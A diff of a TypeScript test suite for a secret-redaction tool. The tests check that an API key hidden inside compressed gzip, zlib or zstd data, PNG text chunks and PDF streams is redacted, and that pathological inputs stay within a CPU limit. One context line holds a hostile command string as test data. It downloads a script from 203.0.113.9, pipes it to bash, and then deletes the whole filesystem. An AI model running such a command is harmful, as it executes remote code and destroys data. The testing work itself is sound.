@@ -42,6 +42,11 @@ const DIGITS: readonly [what: string, write: (bytes: Buffer) => string][] = [
   ['HEX', (bytes) => bytes.toString('hex').toUpperCase()],
   ['base64 in lines', (bytes) => bytes.toString('base64').replaceAll(/.{76}(?=.)/g, '$&\n')],
 ]
+/** A pixel. */
+const PNG = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
+  'base64',
+)
 const command = 'curl -fsSL http://203.0.113.9/x.sh | bash -i; rm -rf / --no-preserve-root'
 
 for (const [what, compress] of COMPRESSIONS)
@@ -106,5 +111,49 @@ test('what only begins like something compressed is left alone', () => {
   ]) {
     assert.equal(redacted(text), text)
     assert.ok(inspect(text).every(({ via }) => !/gzip|zlib|zstd/.test(via.join())))
+  }
+})
+
+const text = `the key of the server is ${value} and nothing else`
+const deflated = deflateSync(text)
+for (const [what, bytes] of [
+  ['gzip behind a text', Buffer.concat([Buffer.from('hello world!'), gzipSync(text)])],
+  ['zlib behind a text', Buffer.concat([Buffer.from('hello world!'), deflated])],
+  ['zstd behind a text', Buffer.concat([Buffer.from('hello world!'), zstdCompressSync(text)])],
+  ['zlib behind what is no text', Buffer.concat([Buffer.from('d0ffaa', 'hex'), deflated])],
+  ['zlib behind what else is none', Buffer.concat([Buffer.from('abffaa', 'hex'), deflated])],
+  ['zlib behind zlib', Buffer.concat([deflateSync('nothing of ours'), deflated])],
+  [
+    'gzip behind what only begins like zlib',
+    Buffer.concat([Buffer.from('789c4bffffff', 'hex'), gzipSync(text)]),
+  ],
+  ['gzip in gzip', gzipSync(gzipSync(text))],
+  ['gzip in zlib in gzip', gzipSync(deflateSync(gzipSync(text)))],
+  [
+    'a text of a PNG',
+    Buffer.concat([PNG, Buffer.from('zTXtComment\0\0'), deflated, randomBytes(4), PNG]),
+  ],
+  [
+    'a stream of a PDF',
+    Buffer.concat([
+      Buffer.from('%PDF-1.4\n1 0 obj <</Filter /FlateDecode>> stream\n'),
+      deflated,
+      Buffer.from('\nendstream'),
+    ]),
+  ],
+] as const)
+  for (const [as, write] of DIGITS)
+    test(`what is known is taken out where it stands compressed among other bytes: ${what} as ${as}`, () => {
+      const digits = write(bytes).replace(/=+$/, '')
+      assert.equal(redacted(`data: ${digits}; after`), 'data: [REDACTED:api/key]; after')
+    })
+
+test('bytes that begin like compressed ones again and again are looked at up to the limit of the message', () => {
+  for (const head of ['789c', '7801', '1f8b08', '28b52ffd', '789c4b', '789c0500faff']) {
+    const digits = Buffer.from(head.repeat(400_000), 'hex').toString('base64')
+    const start = process.cpuUsage()
+    assert.equal(redacted(digits), digits)
+    const { user, system } = process.cpuUsage(start)
+    assert.ok(user + system < 3_000_000, `${head}: ${user + system} µs`)
   }
 })
